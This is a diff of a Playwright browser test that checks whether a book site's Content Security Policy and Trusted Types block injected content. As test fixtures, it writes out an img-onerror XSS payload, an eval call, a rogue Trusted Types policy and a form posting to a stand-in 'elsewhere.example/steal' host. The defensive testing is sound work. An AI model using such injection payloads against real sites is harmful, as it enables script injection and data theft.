@@ -63,7 +63,7 @@ describe('bar 06 browser surface: 0 reports', () => {
     await arrive(page, 'これから出る本');
     await page.getByText('発売されたら、この画面ですぐにお知らせします').waitFor(PATIENCE);
     await page.getByLabel('書名・著者でさがす').fill(other.書名 ?? '');
-    await page.getByRole('button', { name: 'さがす' }).click();
+    await page.keyboard.press('Enter');
     await page.getByRole('link', { name: other.書名 ?? '' }).waitFor(PATIENCE);
 
     // A book with a cover, and one whose cover does not load
@@ -127,8 +127,11 @@ describe('bar 06 browser surface: 0 reports', () => {
   it('but one of each thing that got into a page, none of which runs, loads or leads away', async () => {
     const { page, context } = await given.aVisitTo('/');
     const violations = await watchPolicy(context);
-    const asked: string[] = [];
-    page.on('request', (request) => asked.push(new URL(request.url()).host));
+    const reached: string[] = [];
+    await context.route('https://elsewhere.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ contentType: 'text/html', body: '<!doctype html>' });
+    });
     // As if somebody had written into the page on its way; its headers are as they were
     await page.route(testStack().web, async (route) => {
       const answer = await route.fetch();
@@ -140,29 +143,32 @@ describe('bar 06 browser surface: 0 reports', () => {
     await arrive(page, 'これから出る本');
     await page.locator('#bait').dispatchEvent('click');
     const blocked = () => new Set(violations.map(({ directive }) => directive));
-    await eventually('all violations', () => blocked().size >= 7);
+    await eventually('what stands in the page', () => blocked().size >= 7);
 
     // The sinks that turn text into code
-    expect(await page.evaluate(tryTheSinks)).toEqual(['TypeError', 'TypeError', 'EvalError', '']);
-    await eventually('a violation of trusted types', () =>
-      blocked().has('require-trusted-types-for'),
-    );
-    expect([...blocked()].sort()).toEqual([
+    expect(await page.evaluate(tryTheSinks)).toEqual([
+      'TypeError',
+      'TypeError',
+      'EvalError',
+      'TypeError',
+      '',
+    ]);
+    const all = [
       'base-uri',
       'form-action',
       'frame-src',
       'object-src',
       'require-trusted-types-for',
-      'script-src',
       'script-src-attr',
       'script-src-elem',
       'style-src-attr',
       'style-src-elem',
       'trusted-types',
-    ]);
+    ];
+    await expect.poll(() => [...blocked()].sort(), PATIENCE).toEqual(all);
     expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
     expect(await page.evaluate(() => document.baseURI)).toBe(`${testStack().web}/`);
-    expect(asked.filter((host) => host.endsWith('elsewhere.example'))).toEqual([]);
+    expect(reached).toEqual([]);
     await context.close();
   });
 });
@@ -178,7 +184,7 @@ const WRITTEN_INTO = `
 <form id="away" action="https://elsewhere.example/steal" method="post"></form>`;
 
 /** Runs in the page: the names of what stopped each try; an empty one where nothing had to. */
-function tryTheSinks(): string[] {
+async function tryTheSinks(): Promise<string[]> {
   const tries = [
     () => {
       document.body.innerHTML = '<img src="x" onerror="window.ran = 1">';
@@ -191,23 +197,25 @@ function tryTheSinks(): string[] {
     // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried.
     () => globalThis.eval('window.ran = 1'),
     () => {
-      const form = document.querySelector<HTMLFormElement>('#away');
-      form?.submit();
       const types = Reflect.get(window, 'trustedTypes');
-      try {
-        types.createPolicy('mine', { createHTML: (text: string) => text });
-        Reflect.set(window, 'ran', 1);
-      } catch {
-        // As it should be: the one policy has its name.
-      }
+      types.createPolicy('mine', { createHTML: (text: string) => text });
     },
+    () => document.querySelector<HTMLFormElement>('#away')?.submit(),
   ];
-  return tries.map((attempt) => {
-    try {
-      attempt();
-      return '';
-    } catch (error) {
-      return error instanceof Error ? error.name : 'unknown';
-    }
-  });
+  const names: string[] = [];
+  for (const attempt of tries) {
+    // What the browser's tools call by themselves may use `eval`; a timer of the page may not.
+    await new Promise<void>((next) => {
+      setTimeout(() => {
+        try {
+          attempt();
+          names.push('');
+        } catch (error) {
+          names.push(error instanceof Error ? error.name : 'unknown');
+        }
+        next();
+      });
+    });
+  }
+  return names;
 }
